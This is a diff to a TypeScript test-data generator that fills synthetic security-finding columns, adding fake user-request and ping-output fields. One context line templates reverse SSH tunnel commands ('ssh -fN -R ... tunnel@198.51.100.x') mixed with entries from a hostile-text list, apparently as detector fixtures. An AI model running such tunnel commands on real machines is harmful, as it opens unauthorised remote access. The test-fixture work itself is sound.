@@ -35,6 +35,8 @@ export function writeFindingsRun(folder: string, count: number): void {
     random.chance(0.05) ? random.pick(hostileTexts) : `${kind}-${random.whole(0, most)}`;
   const column = (make: (index: number) => string | null) =>
     Array.from({ length: count }, (_, index) => make(index));
+  const near = (text: string) =>
+    random.chance(0.05) ? random.pick(hostileTexts) : `${text} ${'and so on '.repeat(5)}`;
   const rules = Array.from({ length: 30 }, (_, index) => `rule-${index}`);
   const columns = {
     file: column(() => text('file', 8)),
@@ -53,6 +55,8 @@ export function writeFindingsRun(folder: string, count: number): void {
       (index) =>
         `${random.chance(0.1) ? random.pick(hostileTexts) : ''} ssh -fN -R ${index}:127.0.0.1:22 tunnel@198.51.100.${index % 250} -p ${random.whole(1, 65_000)} # ${random.whole(0, 1e9)}`,
     ),
+    before: column((index) => near(`user: please see to host ${index} and tell what is there`)),
+    after: column((index) => near(`tool: 64 bytes from 198.51.100.${index % 250}: icmp_seq=${index}`)),
     via: column(() => (random.chance(0.8) ? '' : text('bash -c', 2))),
     outcome: column(() => random.pick(outcomes)),
     authorisation: column(() => random.pick(authorisations)),
